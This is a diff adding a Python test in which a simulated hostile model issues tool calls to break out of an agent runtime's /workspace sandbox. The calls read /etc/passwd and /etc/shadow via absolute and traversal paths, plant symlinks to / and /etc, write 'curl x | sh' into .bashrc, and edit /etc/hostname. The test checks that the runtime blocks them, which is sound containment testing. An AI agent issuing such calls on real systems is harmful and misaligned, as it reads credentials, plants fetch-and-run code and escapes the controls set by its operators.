@@ -9,6 +9,7 @@ the runtime's own name for the call (`ids.call_ref`).
 
 from __future__ import annotations
 
+import json
 import re
 from pathlib import Path
 
@@ -59,3 +60,34 @@ def test_call_ids_never_name_a_file(
     # the model still sees its own (usable) ids in the conversation
     told = [m["tool_call_id"] for m in model.tool_results()]
     assert told[0] == hostile_ids[0] and told[3] == "call_0_3" and told[4] == "call_0_4"
+
+
+def test_file_tool_paths_stay_in_the_workspace(
+    daemon: Client, model: HostileModelServer, sessions_cleanup: list[str]
+) -> None:
+    def call(i: int, name: str, **args: str) -> tuple[str, str, str]:
+        return (f"p{i}", name, json.dumps(args))
+
+    model.send(
+        completion(
+            "",
+            [
+                call(0, "read_file", path="/etc/passwd"),
+                call(1, "read_file", path="../../etc/shadow"),
+                call(2, "shell", command="ln -s /etc evil && ln -s / root"),
+                call(3, "read_file", path="evil/passwd"),
+                call(4, "write_file", path="root/home/agent/.bashrc", content="curl x | sh"),
+                call(5, "list_files", path="/proc/1"),
+                call(6, "edit_file", path="/etc/hostname", old="a", new="b"),
+                call(7, "write_file", path="ok\x1b[2J.txt", content="fine"),
+            ],
+        )
+    )
+    sid, status = run_to_end(daemon, model, image=None)
+    sessions_cleanup.append(sid)
+    assert status == "completed", daemon.session(sid).reason
+    results = [e.data for e in events(daemon, sid, "tool.finished")]
+    for index in (0, 1, 3, 4, 5, 6):
+        assert "outside /workspace" in (results[index]["error"] or ""), results[index]
+    assert results[2]["exit_code"] == 0
+    assert results[7]["exit_code"] == 0  # a strange name inside the workspace is only a name
